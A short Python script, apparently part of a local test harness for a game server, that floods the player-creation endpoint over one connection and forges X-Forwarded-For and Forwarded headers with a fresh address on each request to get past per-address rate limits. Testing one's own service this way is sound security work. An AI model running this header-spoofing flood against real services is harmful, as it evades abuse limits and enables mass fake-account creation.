"""New players as fast as one connection goes, each with another forged address.

The attacker is where the ordinary player is, at the address that uvicorn trusts unasked; so where
the forgery does not help, the limits of that address hit both."""

from __future__ import annotations

import time

from common import Figures, Line, run, tally

PLAYER = "POST /api/players HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 0\r\n"
FORGED = "X-Forwarded-For: 10.{}.{}.1\r\nForwarded: for=10.{}.{}.1\r\n\r\n"


def attack(port: int, seconds: float) -> Figures:
    answers = []
    line = Line(port, "127.0.0.1")
    end = time.monotonic() + seconds
    number = 0
    while time.monotonic() < end:
        number += 1
        high, low = number // 256 % 256, number % 256
        line.send((PLAYER + FORGED.format(high, low, high, low)).encode())
        answers.append(line.answer())
    line.close()
    return {"requests": len(answers), "answers": tally(answers)}


if __name__ == "__main__":
    run(attack)
